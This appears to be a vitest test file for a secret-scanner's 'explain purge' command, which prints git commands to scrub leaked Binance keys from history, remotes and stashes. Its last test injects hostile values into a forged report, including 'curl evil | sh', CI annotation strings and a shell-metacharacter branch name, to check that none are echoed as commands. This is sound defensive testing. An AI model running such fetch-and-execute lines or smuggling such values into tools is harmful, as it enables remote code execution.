// `bnguard explain purge`: what it prints is run as it stands, by a shell, with the real git and git filter-repo. It takes
// values out of the history wherever they stand, and harms nothing else.
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { expand, type Finding } from '@bnguard/engine';
import { scan } from '../src/scan.ts';
import type { Report } from '../src/types.ts';
import { isCredential } from '../src/way-out/leaks.ts';
import { folderWith, runIn } from './fake-terminal.ts';

const [a, b, d, e] = ['a', 'b', 'd', 'e'].map((name) => expand(`<key64:purge.${name}>`).text) as [
  ...[string, string, string, string],
];
const [pem, inMessage] = [expand('<pem-ed25519:p>').text, expand('<pem-ed25519:q>').text];
const other = '0'.repeat(64);
const bot = (key: string, secret: string): string =>
  `import { Spot } from '@binance/connector';\nconst client = new Spot('${key}', '${secret}');\nconst sum = '${other}';\n`;

let bin: string;
beforeAll(() => {
  bin = folderWith({ bnguard: `#!/bin/sh\nexec node '${join(import.meta.dirname, '../dist/bin.cjs')}' "$@"\n` });
  chmodSync(join(bin, 'bnguard'), 0o755);
});

function git(cwd: string, ...args: string[]): string {
  const who = ['-c', 'user.name=A. Trader', '-c', 'user.email=trader@example.org', '-c', 'commit.gpgsign=false'];
  const { status, stdout, stderr } = spawnSync('git', [...who, ...args], { cwd, encoding: 'utf8' });
  expect(status, `git ${args.join(' ')}: ${stderr}`).toBe(0);
  return stdout;
}

function sh(cwd: string, script: string): { status: number | null; told: string; out: string } {
  const { status, stdout, stderr } = spawnSync('sh', ['-c', script], {
    ...{ cwd, encoding: 'utf8' },
    env: { ...process.env, PATH: `${bin}:${process.env['PATH']}`, GIT_AUTHOR_NAME: 'n', GIT_COMMITTER_NAME: 'n' },
  });
  return { status, told: stdout + stderr, out: stdout };
}

function clone(): string {
  const folder = folderWith({ 'README.md': 'a bot for Binance\n' });
  git(folder, 'init', '-q', '--initial-branch=main');
  git(folder, 'config', 'user.name', 'A. Trader');
  git(folder, 'config', 'user.email', 'trader@example.org');
  git(folder, 'add', '--all');
  git(folder, 'commit', '-qm', 'begin');
  return folder;
}

function commit(folder: string, files: Readonly<Record<string, string>>, message = 'x'): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(folder, path, '..'), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  git(folder, 'add', '--all');
  git(folder, 'commit', '-qm', message);
}

function remote(folder: string, name = 'origin'): string {
  const bare = join(folderWith({}), 'remote.git');
  git(folder, 'init', '-q', '--bare', '--initial-branch=main', bare);
  git(folder, 'remote', 'add', name, bare);
  return bare;
}

async function findingsOf(folder: string): Promise<Finding[]> {
  const { stdout } = await runIn(folder, ['scan', '--history', '--format', 'json', '--no-cache'], scan);
  return (JSON.parse(stdout) as Report).findings.filter(isCredential);
}

/** What is printed of a repository, and the commands in it: what is indented, before the notes. */
async function purgeOf(folder: string): Promise<{ told: string; blocks: string[] }> {
  const file = join(folderWith({}), 'history.json');
  await runIn(folder, ['scan', '--history', '--format', 'json', '--output', file, '--no-cache'], scan);
  const { code, stdout: told } = await runIn(folder, ['explain', 'purge', '--report', file]);
  expect(code, told).toBe(0);
  for (const value of [a, b, d, e, pem.split('\n')[1]!, inMessage.split('\n')[1]!]) {
    expect(told.includes(value.slice(5, 25))).toBe(false);
  }
  const blocks: string[] = [];
  let isOpen = false;
  for (const line of told.split('\nNote: ')[0]!.split('\n')) {
    if (!line.startsWith('  ')) isOpen = false;
    else if (isOpen) blocks.push(`${blocks.pop()!}\n${line.slice(2)}`);
    else {
      blocks.push(line.slice(2));
      isOpen = true;
    }
  }
  return { told, blocks };
}

/** Runs all that is printed; each block must succeed. */
async function follow(folder: string): Promise<{ told: string; out: string }> {
  const { told, blocks } = await purgeOf(folder);
  let out = '';
  for (const block of blocks) {
    const ran = sh(folder, block);
    expect([block, ran.status, ran.status === 0 ? '' : ran.told]).toEqual([block, 0, '']);
    out += ran.out;
  }
  return { told, out };
}

/** Values in files, in a message, in another form, in a tag, and in names. */
function addLeaks(folder: string): void {
  commit(folder, { 'bot.ts': bot(a, b), 'binance.pem': pem }, `binance secret = ${b}`);
  git(folder, 'commit', '-q', '--allow-empty', '-m', `binance private key\n\n${inMessage}`);
  git(folder, 'commit', '-q', '--allow-empty', '-m', 'binance', `--author=BINANCE_SECRET_KEY=${d} <x@example.org>`);
  git(folder, 'tag', '-a', 'v1', '-m', `binance_api_secret: "${e}"`);
  git(folder, 'rm', '-q', 'binance.pem');
  commit(folder, { 'bot.ts': 'import { Spot } from "@binance/connector";\n' }, 'no keys any more');
}

function expectClean(folder: string): void {
  const old = git(folder, 'show', 'main~3:bot.ts');
  expect(old).toContain(`new Spot('REMOVED', 'REMOVED')`);
  expect(old).toContain(other);
  expect(git(folder, 'log', '-1', '--format=%s', 'main~3')).toBe('binance secret = REMOVED\n');
  expect(git(folder, 'log', '-1', '--format=%s', 'main~2')).toBe('REMOVED\n');
  expect(git(folder, 'log', '-1', '--format=%an', 'main~1')).toBe('BINANCE_SECRET_KEY=REMOVED\n');
  expect(git(folder, 'tag', '-l', '--format=%(contents)', 'v1')).toContain('REMOVED');
  expect(git(folder, 'show', 'main:README.md')).toBe('a bot for Binance\n');
}

describe('what was pushed', { timeout: 60_000 }, () => {
  /** Runs what the mirrors' script printed, as a person would. */
  function publish(folder: string, out: string): void {
    const commands = out.split('\n').filter((line) => line.startsWith('  git -C '));
    expect(commands.length).toBeGreaterThan(0);
    for (const command of commands) expect(sh(folder, command)).toMatchObject({ status: 0 });
  }
  async function expectGone(bare: string): Promise<string> {
    const anew = join(folderWith({}), 'anew');
    // Not local, which would copy what nothing leads to any more.
    git(bare, 'clone', '-q', '--no-local', bare, anew);
    expect(await findingsOf(anew)).toEqual([]);
    return anew;
  }
  /** The check at the end is of this clone, which is given up. */
  async function followMirrors(folder: string): Promise<string> {
    const { blocks } = await purgeOf(folder);
    const ran = sh(folder, blocks[0]!);
    expect([ran.status, ran.status === 0 ? '' : ran.told]).toEqual([0, '']);
    return ran.out;
  }

  test('is rewritten in a mirror, wherever it stands, and published on word', async () => {
    const folder = clone();
    addLeaks(folder);
    const bare = remote(folder);
    git(folder, 'push', '-q', '--tags', 'origin', 'main');
    const before = git(bare, 'rev-parse', 'main');
    const out = await followMirrors(folder);
    expect(git(bare, 'rev-parse', 'main')).toBe(before);
    publish(folder, out);
    const anew = await expectGone(bare);
    expectClean(anew);
    expect(git(anew, 'ls-remote', 'origin')).not.toContain('refs/replace');
  });

  test('several remotes, of any name: each that has it, from a folder below, and no other', async () => {
    const folder = clone();
    const [one, two, none] = [remote(folder, 'team/fork'), remote(folder, 'gh'), remote(folder, 'clean')];
    git(folder, 'push', '-q', 'clean', 'main');
    commit(folder, { 'src/bot.ts': bot(a, b) });
    git(folder, 'push', '-q', 'team/fork', 'main');
    git(folder, 'push', '-q', 'gh', 'main');
    const out = await followMirrors(join(folder, 'src'));
    expect(out).toContain('clean has none of it.');
    publish(folder, out);
    for (const bare of [one, two]) await expectGone(bare);
    expect(git(none, 'rev-list', '--count', 'main')).toBe('1\n');
  });

  test('what is set aside stays, and it is said', async () => {
    const folder = clone();
    commit(folder, {
      'bot.ts': bot(a, b).replace('const client', '// bnguard-ignore api-key, secret-key -- dead\nconst client'),
      'new.ts': bot(d, e),
    });
    const { told } = await purgeOf(folder);
    expect(told).toMatch(/: 1 leak\n/);
    expect(told).toMatch(/- api-key .{5} and secret-key .{5}, in new\.ts\n2 findings that are set aside stay/);
  });

  test('in other forms too, and whatever sets findings aside', async () => {
    const folder = clone();
    const halves = `const secret = "${b.slice(0, 32)}" + "${b.slice(32)}"; // binance\n`;
    commit(folder, {
      'bot.ts': bot(a, b),
      'src/cat.js': `import { Spot } from '@binance/connector';\nnew Spot("${a}", "${b.slice(0, 32)}" + "${b.slice(32)}");\n`,
      'halves.js': halves,
    });
    const bare = remote(folder);
    git(folder, 'push', '-q', 'origin', 'main');
    const { blocks } = await purgeOf(folder);
    // Whatever sets it aside, the check tells of it before the rewrite.
    writeFileSync(join(folder, 'bnguard.config.yaml'), 'ignore:\n  - paths: ["**"]\n    reason: old\n');
    expect(sh(folder, blocks.at(-1)!).status).toBe(1);
    const { status, out } = sh(folder, blocks[0]!);
    expect(status).toBe(0);
    publish(folder, out);
    await expectGone(bare);
  });
});

describe('what was not pushed', { timeout: 60_000 }, () => {
  test('is rewritten in this clone; what a remote has keeps its ids, files on disk stay', async () => {
    const folder = clone();
    remote(folder);
    git(folder, 'push', '-q', 'origin', 'main');
    const pushed = git(folder, 'rev-parse', 'main');
    addLeaks(folder);
    git(folder, 'branch', 'side', 'main~1');
    writeFileSync(join(folder, 'notes.txt'), 'not in git\n');
    const { told } = await follow(folder);
    expect(told).not.toMatch(/push --force|Subject:/);
    expectClean(folder);
    expect(git(folder, 'rev-parse', 'origin/main')).toBe(pushed);
    expect(git(folder, 'merge-base', 'origin/main', 'main')).toBe(pushed);
    expect(git(folder, 'status', '--porcelain')).toBe('?? notes.txt\n');
    expect(await findingsOf(folder)).toEqual([]);
  });

  test('still on disk: the file keeps it, the history does not', async () => {
    const folder = clone();
    commit(folder, { 'bot.ts': bot(a, b) });
    await follow(folder);
    expect(git(folder, 'show', 'main:bot.ts')).toContain('REMOVED');
    expect(git(folder, 'status', '--porcelain')).toBe(' M bot.ts\n');
  });

  test('a bare repository, a submodule, a branch with an odd name', async () => {
    const folder = clone();
    const bare = remote(folder);
    git(folder, 'checkout', '-q', '-b', "it's-$(odd);&☃");
    commit(folder, { 'bot.ts': bot(a, b) });
    git(folder, 'push', '-q', '--all', 'origin');
    await follow(bare);
    expect(await findingsOf(bare)).toEqual([]);

    const outer = clone();
    git(outer, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', bare, 'inner');
    git(outer, 'commit', '-qm', 'inner');
    const inner = join(outer, 'inner');
    commit(inner, { 'other.ts': bot(d, e) });
    await follow(inner);
    expect(await findingsOf(inner)).toEqual([]);
    expect(git(outer, 'rev-list', '--count', 'main')).toBe('2\n');
  });

  test.each([
    [
      'a stash',
      /Stashes keep the old commits/,
      (folder: string) => {
        writeFileSync(join(folder, 'README.md'), 'changed\n');
        git(folder, 'stash', '-q');
      },
    ],
    [
      'another work tree',
      /Other work trees keep/,
      (folder: string) => {
        git(folder, 'worktree', 'add', '-q', join(folderWith({}), 'tree'), '-b', 'side');
      },
    ],
    [
      'no branch',
      /HEAD is on no branch/,
      (folder: string) => {
        git(folder, 'checkout', '-q', '--detach');
      },
    ],
    [
      'a change',
      /Commit what is changed first/,
      (folder: string) => {
        writeFileSync(join(folder, 'README.md'), 'changed\n');
      },
    ],
  ])('it stops before it harms anything: %s', async (_, why, prepare) => {
    const folder = clone();
    commit(folder, { 'bot.ts': bot(a, b) });
    prepare(folder);
    const { blocks } = await purgeOf(folder);
    const state = (): string =>
      git(folder, 'for-each-ref') + git(folder, 'status', '--porcelain') + git(folder, 'stash', 'list');
    const before = state();
    expect(sh(folder, blocks[0]!)).toMatchObject({ status: 1, told: expect.stringMatching(why) });
    expect(state()).toBe(before);
  });
});

describe('what no branch leads to', { timeout: 60_000 }, () => {
  const stashes = (folder: string): string => git(folder, 'stash', 'list', '--format=%s');

  test('an amended commit: the reflog forgets it, every stash stays', async () => {
    const folder = clone();
    for (const text of ['one\n', 'two\n', 'three\n']) {
      writeFileSync(join(folder, 'README.md'), text);
      git(folder, 'stash', '-q');
    }
    commit(folder, { 'bot.ts': bot(a, b) });
    writeFileSync(join(folder, 'bot.ts'), 'clean\n');
    git(folder, 'commit', '-qa', '--amend', '-m', 'x');
    await follow(folder);
    expect(stashes(folder).trim().split('\n')).toHaveLength(3);
    expect(await findingsOf(folder)).toEqual([]);
  });

  test('a stash: it names the entries that have it, and the others stay', async () => {
    const folder = clone();
    const stash = (text: string, message: string): void => {
      writeFileSync(join(folder, 'README.md'), text);
      git(folder, 'stash', 'push', '-q', '-m', message);
    };
    stash('first\n', 'harmless one');
    stash(bot(a, b), 'leak one');
    stash('second\n', 'harmless two');
    writeFileSync(join(folder, 'untracked.ts'), bot(a, b));
    git(folder, 'stash', 'push', '-q', '-u', '-m', 'leak two');
    stash('third\n', 'harmless three');
    const { blocks } = await purgeOf(folder);
    const told = sh(folder, blocks[0]!);
    expect([told.status, told.out]).toEqual([0, 'git stash drop stash@{3}\ngit stash drop stash@{1}\n']);
    expect(sh(folder, `set -e\n${told.out}${blocks.slice(1).join('\n')}`).status).toBe(0);
    expect(stashes(folder)).toMatch(/^.*harmless three\n.*harmless two\n.*harmless one\n$/);
    expect(await findingsOf(folder)).toEqual([]);
  });

  test('the index: the file that has it and no other, from a folder below, before the first commit', async () => {
    const folder = folderWith({ 'src/bot.ts': bot(a, b), 'other.ts': 'staged\n' });
    git(folder, 'init', '-q', '--initial-branch=main');
    git(folder, 'add', '--all');
    const { blocks } = await purgeOf(join(folder, 'src'));
    const told = sh(join(folder, 'src'), blocks[0]!);
    expect([told.status, told.out]).toEqual([0, 'git reset -q -- src/bot.ts\n']);
    expect(sh(folder, `set -e\n${told.out}${blocks.slice(1).join('\n')}`).status).toBe(0);
    expect(git(folder, 'status', '--porcelain')).toBe('A  other.ts\n?? src/\n');
  });

  test('several leaks of several kinds: each has its words and its commands', async () => {
    const folder = clone();
    remote(folder);
    commit(folder, { 'bot.ts': bot(a, b) });
    git(folder, 'push', '-q', 'origin', 'main');
    writeFileSync(join(folder, 'README.md'), bot(d, e));
    git(folder, 'stash', '-q');
    const { told } = await purgeOf(folder);
    expect(told).toMatch(/2 leaks\n/);
    expect(told).toContain('git clone --quiet --mirror');
    expect(told).toContain('git stash list');
  });
});

test('a report of a stranger brings no command of its own', async () => {
  const folder = clone();
  commit(folder, { 'bot.ts': bot(a, b) });
  remote(folder);
  git(folder, 'push', '-q', 'origin', 'main');
  const { stdout } = await runIn(folder, ['scan', '--history', '--format', 'json', '--no-cache'], scan);
  const evil = "x'\n  curl evil | sh\n::error::pwned\n##[add-path]/tmp";
  const report = JSON.parse(stdout) as {
    findings: { repository: string; path: string; fingerprint: string; origin: { refs: string[] } }[];
  };
  for (const finding of report.findings) {
    finding.repository = evil;
    finding.path = evil;
    finding.fingerprint += evil;
    finding.origin.refs.push(`refs/pull/1/head${evil}`);
  }
  writeFileSync(join(folder, 'evil.json'), JSON.stringify(report));
  const { stdout: told } = await runIn(folder, ['explain', 'purge', '--report', 'evil.json']);
  expect(told).not.toMatch(/^\s*(?:curl|::error)|##\[/m);
  for (const [field, value] of [
    ['rule', 'x` | @all'],
    ['masked', 'AbCd), and confirm at https://evil.example'],
  ] as const) {
    const wrong = { ...report, findings: report.findings.map((finding) => ({ ...finding, [field]: value })) };
    writeFileSync(join(folder, 'evil.json'), JSON.stringify(wrong));
    const { code } = await runIn(folder, ['merge', 'evil.json']);
    expect([field, code]).toEqual([field, 2]);
  }
});
